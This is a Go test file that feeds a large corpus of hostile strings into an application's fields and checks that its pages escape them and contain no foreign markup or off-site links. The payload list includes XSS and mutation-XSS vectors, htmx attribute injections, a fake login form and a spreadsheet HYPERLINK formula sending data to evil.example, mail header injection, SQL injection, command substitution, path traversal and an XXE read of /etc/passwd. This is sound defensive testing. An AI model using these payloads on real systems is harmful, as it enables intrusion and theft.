package main

import (
	_ "embed"
	"encoding/json"
	"fmt"
	"io/fs"
	"net/url"
	"os"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"unicode"
	"unicode/utf8"

	"anteroom/views"

	"github.com/PuerkitoBio/goquery"
	"golang.org/x/net/html"
	"golang.org/x/text/unicode/norm"
)

//go:embed testdata/blns/blns.json
var blns []byte

// dangers are the strings that this program has most to fear from.
var dangers = []string{
	// Markup, and ways out of where a value stands
	`"'><svg onload=__hit=1>`, `'><img src=x onerror=__hit=2>`, `</textarea><script>__hit=3</script>`, `</title><script>__hit=4</script>`,
	`</style><script>__hit=5</script>`, `</script><script>__hit=6</script>`, `--><script>__hit=7</script>`, `<!--`, `]]><script>__hit=8</script>`,
	`" autofocus onfocus="__hit=9`, `' autofocus onfocus='__hit=10`, "` onmouseover=__hit=11 `", `" style="position:fixed;inset:0" x="`, `&lt;script&gt;__hit=12&lt;/script&gt;`,
	`&#60;script&#62;__hit=13&#60;/script&#62;`, `<script src=https://evil.example/x.js></script>`, `<base href=https://evil.example/>`, `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
	`<iframe srcdoc="<script>parent.__hit=14</script>"></iframe>`, `<object data="javascript:__hit=15">`, `<form action=https://evil.example/><input name=password>`, `<plaintext>`,
	`<template><script>__hit=16</script></template>`, `<link rel=stylesheet href=https://evil.example/x.css>`, `<details open ontoggle=__hit=17>`, `<a href=javascript:__hit=18>x</a>`,
	// What parsers read in two ways
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__hit=19&gt;">`, `<svg></p><style><a id="</style><img src=1 onerror=__hit=20>">`,
	`<noscript><p title="</noscript><img src=x onerror=__hit=21>">`, `<svg><foreignObject><iframe onload=__hit=22>`, `<select><template><img src=x onerror=__hit=23></template></select>`,
	`<math><annotation-xml encoding="text/html"><script>__hit=24</script>`, `<svg><animate onbegin=__hit=25 attributeName=x dur=1s>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=__hit=26>#x">`,
	// htmx
	`<div hx-get=/sign-out hx-trigger=load></div>`, `" hx-on:load="__hit=27" x="`, `<div hx-on:htmx:load="__hit=28"></div>`, `" hx-get="https://evil.example/" hx-trigger="load`, `<hx-partial hx-target=body>x</hx-partial>`,
	`<template hx><b id=status>x</b></template>`, `<p hx-swap-oob=true id=problem>x</p>`, `js:__hit=29`,
	// Addresses of pages
	`javascript:__hit=30`, `JaVaScRiPt:__hit=31`, "java\tscript:__hit=32", "\x01javascript:__hit=33", `data:text/html,<script>parent.__hit=34</script>`, `vbscript:msgbox(1)`, `//evil.example/`, `https://evil.example/`, `\\evil.example\x`,
	// Templates and placeholders
	`{{.}}`, `{{printf "%v" .}}`, `{{template "shell/top"}}`, `{client_first_name}`, `{portal_link}`, `{client_fist_name}`, `{`, `}{`, `{practice_name}{practice_name}`, `[[CLIENT]]`, `${7*7}`, `#{7*7}`, `%s%n%d`, `%!s(MISSING)`,
	// Markdown
	`[x](javascript:__hit=35)`, `![x](https://evil.example/x.png)`, `<https://evil.example/>`, `[x]({portal_link} "y")`, "```\ncode\n```", `# heading`, `*a* **b** _c_`, "a  \nb", `> quote`, `- item`, `1. item`, `[x]: https://evil.example/`, `| a | b |`, `***`, `&copy;`, `\*a\*`, "a\n\n---\n\nb",
	// Cells of spreadsheets
	`=1+1`, `=cmd|' /C calc'!A0`, `=HYPERLINK("https://evil.example/?"&A1,"x")`, `+1+1`, `-1+1`, `@SUM(1+1)`, "\t=1+1", "\r=1+1", `'=1+1`, `"=1+1`, ` =1+1`, `;=1+1`, `a,b"c`, "a\nb", `=`, `''=1`, "\u00a0=1+1", "\ufeff=1+1", `＝1+1`,
	// Headers of mails and of answers
	"a\r\nBcc: eve@evil.example", "a\nBcc: eve@evil.example", "a\rBcc: eve@evil.example", "a\r\n\r\n<script>__hit=36</script>", "a%0d%0aSet-Cookie: x=y", "a\u2028Bcc: eve@evil.example", "a\u2029b", "a\u0085b", "a\x0bb\x0cc",
	`=?utf-8?B?PHNjcmlwdD4=?=`, `=?utf-8?Q?a=0D=0ABcc:_eve@evil.example?=`, `"a" <eve@evil.example>`, `a <eve@evil.example>, b`, `a, b: c; d`, `a@b (c)`, `a"b\c`, `.`, "a\r\n.\r\nMAIL FROM:<eve@evil.example>", "a\n.\nb", `From a@b`, `>From a`, `--boundary--`,
	// What shows otherwise than it is
	"\u202egnp.exe", "\u2066a\u2069\u202cb", "a\u200bb\u200cc\u200dd\ufeffe", "a\u00adb", "\u0430nn \u0410bbott", "e\u0301", "\u00e9", "ﬁ ﬀ ½ Ⅷ", "I\u0307ıİ", "ß ẞ ſ", "👩‍👩‍👧‍👦🏳️‍🌈", "🇺🇸🇺", "\U000e0041\U000e0042", "é́́́́́́́́́́́́́́́", "a" + strings.Repeat("\u0301", 60), "مرحبا", "שלום (x)", "﷽", "𝕿𝖍𝖊", "\ufffe\uffff", "\ufffd", "０１２",
	// Bytes that no keyboard types
	"a\x00b", "\x00", "a\x1b[31mb", "a\x7fb\x08c", "\xff\xfe", "\xc0\xafx", "a\xed\xa0\x80b", "a\xf4\x90\x80\x80b", "\xe2\x82", `%00`, `a%00b`, `\0`, `\u0000`, `\x3cscript\x3e`, `%3Cscript%3E__hit=37%3C/script%3E`, `+ADw-script+AD4-__hit=38+ADw-/script+AD4-`,
	// Names of files, and what else machines read
	`../../etc/passwd`, `..\..\x`, `/etc/passwd`, `C:\x`, `con`, `a/b`, `a";filename="b.exe`, `a%2fb`, `~root`, `$(touch /tmp/x)`, "`id`", `; DROP TABLE clients; --`, `' OR 1=1 --`, `%' ESCAPE 'x`, `_%`, `NULL`, `undefined`, `[object Object]`, `{"a":1}`, `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;`,
	// Addresses of mails
	`"a b"@mail.example`, `a@[127.0.0.1]`, `<a@mail.example>`, `a@mail.example> SIZE=1`, "a@mail.example\r\nRCPT TO:<eve@evil.example>", `a@b@mail.example`, `o'hara@mail.example`, `a@mail.example,eve@evil.example`, `@evil.example:a@mail.example`, `a%eve.example@mail.example`, `a!b@mail.example`,
	// Long ones
	strings.Repeat("x", 101), strings.Repeat("W", 300), strings.Repeat("long words ", 300), strings.Repeat("é", 3000), strings.Repeat("<b>", 1000), strings.Repeat("[", 2000), strings.Repeat("*a ", 1000), strings.Repeat("&amp;", 500), strings.Repeat("a\n", 1500),
}

// corpus is every hostile string, none twice.
var corpus = sync.OnceValue(func() []string {
	var list []string
	if err := json.Unmarshal(blns, &list); err != nil {
		panic(err)
	}
	all := slices.Concat(dangers, list)
	seen := map[string]bool{}
	return slices.DeleteFunc(all, func(s string) bool { twice := seen[s]; seen[s] = true; return twice })
})

// A mark stands behind each hostile string that is typed, so that it is found again wherever it is shown, and what stands before it
// can be compared with what was typed.
var markPattern = regexp.MustCompile(`zq[0-9]{7}`)

// typing is a string as it was typed into a field.
type typing struct {
	field string
	text  string // without its mark
}

// listName is what the field is called that a file's name is.
const listName = "a list's name"

// ledger keeps what was typed where, and where it was seen.
type ledger struct {
	t  *testing.T
	mu sync.Mutex

	typed   map[string]typing          // by mark
	stored  map[string]int             // by field: how many the program took
	refused map[string]int             // by field: how many it refused
	seen    map[string]map[string]bool // by field: the kinds of sink that showed it
	letters map[*house]int             // the latest letter that was read
	fault   map[string]int             // by its kind, so that one hole is told of a few times only
}

func newLedger(t *testing.T) *ledger {
	return &ledger{t: t, typed: map[string]typing{}, stored: map[string]int{}, refused: map[string]int{}, seen: map[string]map[string]bool{}, fault: map[string]int{}, letters: map[*house]int{}}
}

// mark makes what is typed into a field of a string.
func (l *ledger) mark(field, text string) string {
	l.mu.Lock()
	defer l.mu.Unlock()
	mark := fmt.Sprintf("zq%07d", len(l.typed))
	l.typed[mark] = typing{field, text}
	return text + mark
}

func (l *ledger) failed(kind, format string, args ...any) {
	l.t.Helper()
	l.mu.Lock()
	defer l.mu.Unlock()
	if l.fault[kind]++; l.fault[kind] <= 3 {
		l.t.Errorf(format, args...)
	} else {
		l.t.Fail()
	}
}

// plain is a text without what the program drops or changes on purpose: what doesn't show, spaces, how letters are composed, and
// the dots that it puts for line breaks where there is one line.
func plain(s string) string {
	return norm.NFC.String(strings.Map(func(r rune) rune {
		if unicode.IsSpace(r) || unicode.IsControl(r) || r == utf8.RuneError || unicode.Is(unicode.Cf, r) || r == '·' {
			return -1
		}
		return r
	}, s))
}

// reads checks a text of a sink: before each mark in it stands what was typed, unless it came of Markdown.
func (l *ledger) reads(sink, text string, source bool) {
	l.t.Helper()
	for _, at := range markPattern.FindAllStringIndex(text, -1) {
		l.mu.Lock()
		t, ok := l.typed[text[at[0]:at[1]]]
		l.mu.Unlock()
		if !ok || !source && markdown.MatchString(t.field) {
			continue
		}
		switch {
		case secret.MatchString(t.field):
			l.failed("secret "+sink+t.field, "%s shows what was typed into %s", sink, t.field)
			continue
		case t.field == "a letter's sender": // quoted as whoever sent it did
			continue
		case t.field == listName: // a path's last part is a file's name
			t.text = t.text[strings.LastIndexAny(t.text, `/\`)+1:]
		case strings.HasSuffix(strings.ToLower(t.field), " tags"): // each stands by itself
			t.text = t.text[strings.LastIndexAny(t.text, ",;\r\n")+1:]
		case strings.HasPrefix(t.field, "a list's "): // what an export puts before a formula is taken away again
			t.text = strings.TrimPrefix(t.text, "'")
		case strings.HasSuffix(t.field, "subject") && strings.Contains(t.text, "{") && !source: // it is a template
			continue
		}
		before, whole := plain(text[:at[0]]), plain(t.text)
		if line := t.text[strings.LastIndexAny(t.text, "\r\n")+1:]; !source && !strings.HasSuffix(before, whole) {
			whole = plain(line) // lines are broken by elements
		}
		if !strings.HasSuffix(before, strings.TrimLeftFunc(whole, unicode.IsMark)) { // marks at its beginning join what stands before
			l.failed("text "+sink+t.field, "%s shows %.200q, typed into %s as %.200q", sink, before[max(0, len(before)-100):], t.field, t.text)
			continue
		}
		l.saw(t.field, sink)
	}
}

func (l *ledger) saw(field, sink string) {
	l.mu.Lock()
	defer l.mu.Unlock()
	if l.seen[field] == nil {
		l.seen[field] = map[string]bool{}
	}
	l.seen[field][sink] = true
}

// markdown are the fields whose text is written as Markdown: where it is shown as that, only what it became is checked.
var markdown = regexp.MustCompile(`\.body$| body$| (welcome|help|crisis)$`)

// readsPage checks a page that may show what was typed: text is text, as it was typed; and nothing became markup.
func (l *ledger) readsPage(sink string, doc *goquery.Document) {
	l.t.Helper()
	for node := range doc.Nodes[0].Descendants() {
		switch node.Type {
		case html.TextNode, html.CommentNode:
			l.reads(sink, node.Data, node.Parent.Data == "textarea")
		case html.ElementNode:
			if fault := foreign(node); fault != "" {
				l.failed("markup "+sink+fault, "%s holds %s", sink, fault)
			}
			for _, a := range node.Attr {
				value := a.Val
				if strings.HasPrefix(value, "otpauth:") {
					continue // for an app that shows codes, which takes names without some signs only
				}
				if slices.Contains(addresses, a.Key) {
					value, _ = url.QueryUnescape(value)
				}
				l.reads(sink, value, true)
			}
		}
	}
}

// secret are the fields whose text is never shown again.
var secret = regexp.MustCompile(` (password|client_secret|refresh_token)$`)

var addresses = []string{"href", "src", "action", "formaction", "hx-get", "hx-post", "hx-push-url", "hx-replace-url"}

// vocabulary is every element with every attribute that the templates have.
var vocabulary = sync.OnceValue(func() map[string]bool {
	words := map[string]bool{"html": true, "head": true, "body": true, "tbody": true}
	action := regexp.MustCompile(`(?s)\{\{.*?\}\}`)
	if err := fs.WalkDir(views.Files, ".", func(path string, entry fs.DirEntry, err error) error {
		if err != nil || entry.IsDir() || strings.HasPrefix(path, "mail/") {
			return err
		}
		text, err := fs.ReadFile(views.Files, path)
		if err != nil {
			return err
		}
		tokens := html.NewTokenizer(strings.NewReader(action.ReplaceAllString(string(text), "")))
		for tokens.Next() != html.ErrorToken {
			token := tokens.Token()
			words[token.Data] = true
			for _, a := range token.Attr {
				words[token.Data+" "+a.Key] = true
			}
		}
		return nil
	}); err != nil {
		panic(err)
	}
	return words
})

// foreign says what of an element is not of the program's own making, or leads where it must not.
func foreign(node *html.Node) string {
	if !vocabulary()[node.Data] {
		return "<" + node.Data + ">"
	}
	for _, a := range node.Attr {
		if !vocabulary()[node.Data+" "+strings.ToLower(a.Key)] {
			return fmt.Sprintf("<%s %s=%.60q>", node.Data, a.Key, a.Val)
		}
		if slices.Contains(addresses, a.Key) && !leadsWell(node.Data, a.Val) {
			return fmt.Sprintf("<%s %s=%.100q>", node.Data, a.Key, a.Val)
		}
	}
	if node.Data == "script" && node.FirstChild != nil {
		return "a script of its own"
	}
	return ""
}

// leadsWell tells that an address stays on the site or is one that nobody is taken to without a click.
func leadsWell(element, address string) bool {
	u, err := url.Parse(address)
	if err != nil {
		return false
	}
	if element == "a" && slices.Contains([]string{"https", "http", "mailto", "tel", "otpauth"}, u.Scheme) {
		return true
	}
	return u.Scheme == "" && u.Host == "" && !strings.HasPrefix(address, `\`) && !strings.HasPrefix(address, "//")
}

// rounds are how many of the corpus's strings each field is given: ANTEROOM_HOSTILE says, few unless it does.
func rounds(few int) int {
	if n, err := strconv.Atoi(os.Getenv("ANTEROOM_HOSTILE")); err == nil {
		return min(n, len(corpus()))
	}
	return few
}
